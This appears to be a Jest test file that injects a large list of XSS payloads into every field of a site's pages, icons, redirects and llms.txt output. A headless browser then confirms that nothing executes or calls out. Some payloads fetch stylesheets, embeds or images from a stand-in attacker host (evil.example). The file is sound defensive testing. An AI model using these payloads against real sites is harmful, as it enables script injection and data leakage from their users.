// Version 0.7 is the last whose package has its tests: it is here for them alone.
import published from 'dompurify-fixtures/test/fixtures/expect'
import type { Nodes } from 'hast'
import { createElement, type FunctionComponent } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import rehypeParse from 'rehype-parse'
import { unified } from 'unified'
import { launch } from '@/__tests__/helpers/chromium'
import { Block } from '@/components/blocks/Block'
import { Frame } from '@/components/site/Frame'
import { Missing } from '@/components/site/Missing'
import { JsonLd } from '@/components/ui/JsonLd'
import { outline, type Page, site } from '@/lib/content'
import { llmsText } from '@/lib/content/llms'
import { structuredData } from '@/lib/content/structured-data'
import { readDrawing } from '@/lib/icons/drawing'
import { ATTRIBUTES, ELEMENTS } from '@/lib/icons/drawing/shape'
import { redirectPage } from '@/lib/redirects/page'
import { blocks } from '@/lib/schema/blocks'
import type { Field, Fields } from '@/lib/schema/fields'
import { pageFields } from '@/lib/schema/page'
import { siteFields } from '@/lib/schema/site'
import { inlineScript } from '@/lib/scripts'

jest.mock('contentlayer/generated', () => ({
  allPages: [],
  site: { name: 'Example', language: 'en', legacy_origin: 'https://old.example', menu: [] },
}))

/** What is not in DOMPurify's list. */
const OWN = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=https://evil.example/a.png>',
  '<image src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://evil.example/a.swf">',
  '<link rel=stylesheet href=https://evil.example/a.css>',
  '<style>@import "https://evil.example/a.css"</style>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<video src=https://evil.example/a.mp4 onerror=alert(1) autoplay></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<select><template><img src=x onerror=alert(1)>',
  '<p style="background:url(https://evil.example/a.png)">a</p>',
  '<p style="background:\\75rl(https://evil.example/a.png)">a</p>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="java&#10;script:alert(1)">a</a>',
  '<a href="&#1;javascript:alert(1)">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<a href="vbscript:alert(1)">a</a>',
  '[a](javascript:alert(1))',
  '[a](java&Tab;script:alert(1))',
  '[a][b]\n\n[b]: javascript:alert(1)',
  '![a](https://evil.example/a.png)',
  '![a](x"onerror="alert(1))',
  '<javascript:alert(1)>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '" onmouseover="alert(1)" x="',
  '--><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '`<script>alert(1)</script>`',
  '<<script>alert(1)</script>',
  '<x/onclick=alert(1)>a',
  'javascript:alert(1)',
  ' JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'url(https://evil.example/a.png)',
  'red;background:url(https://evil.example/a.png)',
  'background-image:url("https://evil.example/a.png")',
  'red"><script>alert(1)</script>',
]

const PAYLOADS = [...published.map(({ payload }) => payload), ...OWN]

const FIGURE = ['src', 'alt', 'caption', 'title', 'link', 'class', 'id', 'width', 'height']
const CTA = ['cta_text', 'cta_link', 'cta_alt_text', 'cta_alt_link']

/** A shortcode with the payload in each of its parameters; raw quotes, so that it arrives as it is. */
function shortcode(name: string, params: readonly string[], payload: string): string {
  const value = payload.replaceAll('`', '')
  return `{{< ${name} ${params.map((param) => `${param}=\`${value}\``).join(' ')} >}}`
}

function hostileText(payload: string): string {
  return [
    // First, for some payloads swallow what comes behind them.
    shortcode('figure', FIGURE, payload),
    shortcode('figure', FIGURE.slice(1), payload).replace('figure ', 'figure src="a.png" '),
    shortcode('cta', CTA, payload),
    payload,
    `Text ${payload} text`,
    `<div>${payload}</div>`,
    `<a href="${payload}" class="${payload}" style="${payload}">a</a>`,
  ].join('\n\n')
}

/** What is left of SVG files with the payload in them: nobody writes shapes by hand. */
function hostileIcon(payload: string) {
  const value = payload.replaceAll('"', '&quot;')
  const drawn = (inside: string) => `<svg viewBox="0 0 9 9"><path d="M0 0h9"/>${inside}</svg>`
  const files = [
    payload,
    drawn(payload),
    drawn(`<title>${payload}</title>`),
    `<svg viewBox="${value}"><path d="M0 0h9"/></svg>`,
    drawn(`<path style="${value}" href="${value}" d="${value}"/>`),
  ]
  const drawings = files.map(readDrawing).filter((drawing) => 'shapes' in drawing)
  const taken = Object.entries(ATTRIBUTES).filter(([, pattern]) => pattern.test(payload))
  const attributes = Object.fromEntries(taken.map(([name]) => [name, payload]))
  const shapes = [
    ...drawings.flatMap((drawing) => drawing.shapes),
    ...ELEMENTS.map((element) => ({ element, ...attributes })),
  ]
  return { name: payload, viewBox: drawings[0]?.viewBox, emoji: undefined, shapes }
}

/** A value with the payload wherever there is text, past the checker: a field that is added to a schema is tried by itself. */
function hostile(field: Field, payload: string): unknown {
  switch (field.kind) {
    case 'object':
      return hostileFields(field.fields, payload)
    case 'list':
      return [hostile(field.item, payload)]
    case 'sections':
      return blocks.map((block) => ({
        ...hostileFields(block.fields, payload),
        kind: block.typeName,
        demo: undefined,
      }))
    case 'choice':
      return field.options[0]
    case 'flag':
      return true
    case 'number':
      return 1
    case 'markdown':
      return hostileText(payload)
    case 'picture':
      return { name: payload, address: '/a.png', width: 1, height: 1 }
    case 'icon':
      return hostileIcon(payload)
    // Both are made anew from what was written, and are nothing else than an origin or a tag.
    case 'origin':
      return 'https://old.example'
    case 'language':
      return 'en'
    default:
      return payload
  }
}

function hostileFields(fields: Fields, payload: string): Record<string, unknown> {
  return Object.fromEntries(
    Object.entries(fields).map(([key, field]) => [key, hostile(field, payload)]),
  )
}

function hostilePage(payload: string): Page {
  return {
    ...hostileFields(pageFields, payload),
    mark: payload,
    findings: [
      { severity: 'error', place: payload, reason: payload, rule: payload, frame: payload },
    ],
    address: '/membership/',
    source: 'membership/_index.md',
    files: [{ name: 'a.png', address: '/a.png', width: 1, height: 1 }],
  } as unknown as Page
}

/** To `createElement`, what stands inside is no property. */
const Framed = Frame as FunctionComponent<{ page?: Page }>

/** A page in its frame, with what search engines read; and the page for missing addresses. */
function draw(payload: string): string {
  Object.assign(site, hostileFields(siteFields, payload), {
    // Text that is no address of a repository makes no link at all.
    repository: `https://github.com/a/${payload}`,
  })
  const page = hostilePage(payload)
  const { places } = outline(page)
  const sections = page.sections.map((section, index) => {
    const place = places[index]
    return place && createElement(Block, { key: index, section, page, place })
  })
  const around = { site, getPage: () => page, absoluteAddress: (address: string) => address }
  return [
    createElement(JsonLd, { data: structuredData(page, around) }),
    createElement(Framed, { page }, sections),
    createElement(Framed, {}, createElement(Missing, { pages: [page] })),
  ]
    .map((element) => renderToStaticMarkup(element))
    .join('\n')
}

/** The scripts of the frame, which are no harm. */
const OURS = [
  inlineScript('components/site/page.client.ts', { DOMAIN: '' }),
  inlineScript('components/site/missing.client.ts', { BASE_PATH: '' }),
]

/** What happens when a browser that nothing protects opens this. The one picture that the page has is no harm. */
async function harmOf(html: string): Promise<string[]> {
  const page = await (await launch()).newPage()
  const harm: string[] = []
  const address = 'http://site.invalid/membership/'
  page.on('dialog', async (dialog) => {
    harm.push('dialog')
    await dialog.dismiss()
  })
  await page.route('**', async (route) => {
    const url = route.request().url()
    if (url === address) {
      const body = `<!doctype html><html lang="en"><title>A page</title><body>${html}</body></html>`
      return route.fulfill({ contentType: 'text/html; charset=utf-8', body })
    }
    if (url !== 'http://site.invalid/a.png') harm.push(`request: ${url}`)
    return route.abort()
  })
  try {
    await page.goto(address)
    harm.push(
      ...(await page.evaluate((own) => {
        const found: string[] = []
        for (const element of document.querySelectorAll('*')) {
          const { localName } = element
          // React's own, for the pictures that are seen first; where they lead, the requests tell.
          if (element.matches('link[rel=preload][as=image]')) continue
          // Ours: what they hold is tried by itself below, and a foreign one would show what it does.
          if (localName === 'script' && element.textContent?.startsWith('{"@context":')) continue
          if (localName === 'script' && own.includes(element.textContent ?? '')) continue
          if (/^(?:script|iframe|object|embed|base|meta|link|style)$/.test(localName)) {
            found.push(`element: ${element.outerHTML.slice(0, 200)}`)
          }
          for (const { name } of element.attributes) {
            if (name.startsWith('on')) found.push(`handler: ${element.outerHTML.slice(0, 200)}`)
          }
          const link = element instanceof HTMLAnchorElement ? element.protocol : ''
          if (/^(?:javascript|data|vbscript):$/.test(link)) found.push(`link: ${element.outerHTML}`)
        }
        return found
      }, OURS)),
    )
  } finally {
    await page.close()
  }
  return harm
}

test('hostile text in any place of a page does nothing in a browser without any other protection', async () => {
  expect(await harmOf(PAYLOADS.map(draw).join('\n'))).toEqual([])
}, 180_000)

test('the same text does a lot where nothing stops it', async () => {
  const harm = (await harmOf(OWN.slice(0, 5).join('\n'))).join('\n')
  for (const sign of ['dialog', 'request: https://evil.example/', 'element: ', 'handler: ']) {
    expect(harm).toContain(sign)
  }
})

/** The elements of a document with the names of their attributes: text that stays text changes nothing of it. */
function shapeOf(html: string): string {
  const shape = (node: Nodes): unknown =>
    'children' in node
      ? [
          node.type === 'element' && [node.tagName, Object.keys(node.properties)],
          node.children.filter(({ type }) => type !== 'text').map(shape),
        ]
      : node.type
  return JSON.stringify(shape(unified().use(rehypeParse).parse(html)))
}

test('hostile text stays text on the pages of old addresses and in the scripts of the site', () => {
  const moved = (text: string) =>
    redirectPage(
      { from: `/${text}/`, to: `/${text}/`, title: text },
      // What is no language does not come so far (language/unknown).
      { language: 'en', basePath: '', absoluteAddress: (address) => address },
    )
  const script = (text: string) => {
    const made = inlineScript('components/site/page.client.ts', { DOMAIN: text })
    return `<script>${made}</script><p>After</p>`
  }
  for (const payload of PAYLOADS) {
    expect(shapeOf(moved(payload))).toBe(shapeOf(moved('plain')))
    expect(shapeOf(script(payload))).toBe(shapeOf(script('plain')))
  }
})

test('hostile text does not leave its line in llms.txt', () => {
  const lines = (text: string) => {
    const page = hostilePage(text)
    Object.assign(site, hostileFields(siteFields, text))
    const absoluteAddress = (address: string) => address
    return llmsText({ pages: [page, page], site, absoluteAddress }).split('\n').length
  }
  for (const payload of PAYLOADS) expect(lines(payload)).toBe(lines('plain'))
})
